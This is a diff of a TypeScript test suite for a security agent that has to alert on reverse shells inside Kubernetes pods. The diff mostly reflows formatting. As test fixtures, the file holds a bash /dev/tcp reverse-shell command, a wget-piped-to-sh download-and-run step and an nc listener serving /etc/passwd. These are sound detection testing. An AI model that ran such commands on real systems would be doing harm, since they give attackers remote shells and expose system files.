@@ -27,8 +27,7 @@ function families(host: string, port: number): Record<string, { command: string[
   };
 }
 
-const isReverseShell = (pod: Pod) => (a: JsonAlert) =>
-  a.rule === 'Reverse Shell' && a.output_fields['k8s.pod.name'] === pod.pod;
+const isReverseShell = (pod: Pod) => (a: JsonAlert) => a.rule === 'Reverse Shell' && a.output_fields['k8s.pod.name'] === pod.pod;
 
 describe.skipIf(unavailable)('reverse shells in pods', () => {
   let agent: AgentHandle;
@@ -66,7 +65,10 @@ describe.skipIf(unavailable)('reverse shells in pods', () => {
 
   it('stays quiet for a listener that serves data', async () => {
     const pod = runPod({
-      namespace: 'shop', pod: 'serves-data', container: 'app', image: TOOLS,
+      namespace: 'shop',
+      pod: 'serves-data',
+      container: 'app',
+      image: TOOLS,
       command: ['sh', '-c', 'while true; do nc -l -p 8080 < /etc/passwd; done'],
     });
     const ip = pod.ip();
@@ -87,7 +89,10 @@ describe.skipIf(unavailable)('reverse shells in pods', () => {
     const port = (server.address() as { port: number }).port;
     try {
       const pod = runPod({
-        namespace: 'shop', pod: 'downloads', container: 'app', image: TOOLS,
+        namespace: 'shop',
+        pod: 'downloads',
+        container: 'app',
+        image: TOOLS,
         command: ['sh', '-c', `wget -qO- http://${gateway}:${port}/install.sh | sh; wget -qO- http://${gateway}:${port}/x | md5sum; sleep 5`],
       });
       await expectQuiet(pod, 5_000);
@@ -102,10 +107,7 @@ describe.skipIf(unavailable)('reverse shells in pods', () => {
     const shell = spawn('bash', ['-c', `exec bash -i >& /dev/tcp/127.0.0.1/${listener.port} 0>&1`], { stdio: 'ignore' });
     try {
       const connection = await listener.waitForConnection(15_000);
-      const alert = await agent.waitForAlert(
-        (a) => a.rule === 'Reverse Shell' && a.output_fields['fd.rport'] === listener.port,
-        10_000,
-      );
+      const alert = await agent.waitForAlert((a) => a.rule === 'Reverse Shell' && a.output_fields['fd.rport'] === listener.port, 10_000);
       console.log(`[reverse-shell] host bash /dev/tcp: alert ${alert.receivedMs - connection.atMs} ms after the connection`);
       // The shell, or a child it started (bash -i runs ~/.bashrc) with the same stdio, whichever is seen first.
       expect(alert.output_fields).toMatchObject({ 'container.id': 'host', 'proc.name': 'bash' });
@@ -120,8 +122,12 @@ describe.skipIf(unavailable)('reverse shells in pods', () => {
       listeners.push(listener);
       const spec = families(gateway, listener.port)[family]!;
       const pod = runPod({
-        namespace: 'shop', pod: `web-${family.replace(/[^a-z]/g, '')}`.slice(0, 40), container: 'app',
-        image: TOOLS, command: spec.command, labels: { app: 'web' },
+        namespace: 'shop',
+        pod: `web-${family.replace(/[^a-z]/g, '')}`.slice(0, 40),
+        container: 'app',
+        image: TOOLS,
+        command: spec.command,
+        labels: { app: 'web' },
       });
       const connection = await listener.waitForConnection(15_000);
       const alert = await agent.waitForAlert(isReverseShell(pod), 10_000);
